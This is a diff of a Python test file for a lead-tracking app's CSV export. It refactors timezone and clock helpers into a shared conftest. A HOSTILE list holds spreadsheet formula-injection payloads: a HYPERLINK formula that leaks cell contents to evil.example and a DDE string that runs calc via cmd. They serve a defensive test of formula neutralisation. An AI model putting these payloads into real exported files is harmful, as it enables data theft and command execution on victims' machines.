@@ -7,36 +7,25 @@ import csv
 import io
 import subprocess
 import sys
-from datetime import datetime, time, timezone
-from pathlib import Path
-from zoneinfo import ZoneInfo
 
 import pytest
 
 from blocks.kpi import csv_cell
-from models.clock import BusinessClock
 from models.tables import Lead
-
-ROOT = Path(__file__).resolve().parents[2]
-TOKYO = ZoneInfo("Asia/Tokyo")
-CLOCK = BusinessClock(TOKYO, (time(9), time(18)), frozenset(range(5)), "JP")
+from tests.conftest import ROOT, TOKYO_CLOCK, jst
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
            "-2+3", "=1+1", "\tsource with a tab", "\rsource with a CR", "-"]
 HARMLESS = ["webinar", "-3", "-0.5", "+7", "a=b", "1e3"]
 
 
-def tk(*args) -> datetime:
-    return datetime(*args, tzinfo=TOKYO).astimezone(timezone.utc)
-
-
 def add_mql(db, n: int, source: str, claimed_by: str | None = None) -> None:
-    mql = tk(2026, 11, 24, 10)
+    mql = jst(2026, 11, 24, 10)
     with db.begin() as s:
         s.add(Lead(email=f"csv{n}@example.com", email_norm=f"csv{n}@example.com", source=source, score=80,
                    attributes={}, created_at=mql, updated_at=mql, mql_at=mql,
-                   claim_due=CLOCK.add_minutes(mql, 240), contact_due=CLOCK.add_minutes(mql, 540),
-                   claimed_by=claimed_by, claimed_at=tk(2026, 11, 24, 10, 30) if claimed_by else None))
+                   claim_due=TOKYO_CLOCK.add_minutes(mql, 240), contact_due=TOKYO_CLOCK.add_minutes(mql, 540),
+                   claimed_by=claimed_by, claimed_at=jst(2026, 11, 24, 10, 30) if claimed_by else None))
 
 
 def test_kpi_csv_neutralises_every_formula_cell_and_keeps_the_values(db):
